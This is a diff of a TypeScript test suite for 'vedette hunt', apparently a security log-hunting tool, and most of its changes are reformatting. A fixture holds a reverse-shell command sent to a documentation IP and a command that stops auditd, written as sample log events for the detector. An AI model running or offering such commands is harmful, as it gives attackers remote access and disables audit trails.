@@ -21,7 +21,14 @@ function file(name: string, content: string | Buffer): string {
 const failed = (second: number, address = '203.0.113.7', host = 'web1') =>
   `2026-03-02T08:00:${String(second).padStart(2, '0')}Z ${host} sshd[811]: Failed password for root from ${address} port 4002 ssh2`;
 const process = (command: string, second = 0) =>
-  JSON.stringify({ ts: `2026-03-02T08:00:0${second}Z`, user: 'root', ip: '10.0.0.5', host: 'web1', command, parent: 'bash' });
+  JSON.stringify({
+    ts: `2026-03-02T08:00:0${second}Z`,
+    user: 'root',
+    ip: '10.0.0.5',
+    host: 'web1',
+    command,
+    parent: 'bash',
+  });
 
 const RULE = `title: Greeting
 id: 4f6cbb0e-9b39-4f5e-8f5c-0c3f6b7f3a11
@@ -33,7 +40,11 @@ detection:
   condition: words
 `;
 const objects = (text: string) =>
-  text.trimEnd().split('\n').filter((line) => line !== '').map((line) => JSON.parse(line) as Record<string, unknown>);
+  text
+    .trimEnd()
+    .split('\n')
+    .filter((line) => line !== '')
+    .map((line) => JSON.parse(line) as Record<string, unknown>);
 
 describe('vedette hunt', () => {
   it('reads folders and packed files, correlates across files by event time, names line and file', async () => {
@@ -56,7 +67,10 @@ describe('vedette hunt', () => {
   });
 
   it('sorts by time, filters by level in words and numbers', async () => {
-    const log = file('mixed.jsonl', [process('bash -i >& /dev/tcp/203.0.113.9/4444', 5), process('systemctl stop auditd', 1)].join('\n'));
+    const log = file(
+      'mixed.jsonl',
+      [process('bash -i >& /dev/tcp/203.0.113.9/4444', 5), process('systemctl stop auditd', 1)].join('\n'),
+    );
     const all = await vedette(['hunt', log, '--format', 'json']);
     expect(objects(all.stdout).map(({ level, line }) => [level, line])).toEqual([
       [8, 2],
@@ -87,8 +101,8 @@ describe('vedette hunt', () => {
     file('not-logs/.hidden', failed(0));
     const { code, stdout, stderr } = await vedette(['hunt', join(folder, 'not-logs'), '--format', 'json']);
     expect([code, stdout]).toEqual([0, '']);
-    expect(stderr).toContain('README.md: not a log');
-    expect(stderr).toContain('index.jsonl: not a log');
+    expect(stderr).toContain('README.md: not a log in a known format');
+    expect(stderr).toContain('index.jsonl: not a log in a known format');
     expect(stderr).toContain('picture.bin: binary');
     expect(stderr).toContain('events.evtx: a binary EVTX file');
     expect(stderr).toContain('torn.log.gz: unexpected end of file');
@@ -113,7 +127,8 @@ describe('vedette hunt', () => {
   });
 
   it('finds the first line of records that span several', async () => {
-    const record = (name: string) => `Date: 2026-03-02 08:00:00,000\nEvent Type: Threat Detected\nThreat Name: ${name}\nFile Path: /tmp/a\n`;
+    const record = (name: string) =>
+      `Date: 2026-03-02 08:00:00,000\nEvent Type: Threat Detected\nThreat Name: ${name}\nFile Path: /tmp/a\n`;
     const log = file('endpoint.log', `${record('Trojan.One')}\n${record('Trojan.Two')}`);
     const { stdout } = await vedette(['hunt', log, '--format', 'json']);
     expect(objects(stdout).map(({ line }) => line)).toEqual([1, 6]);
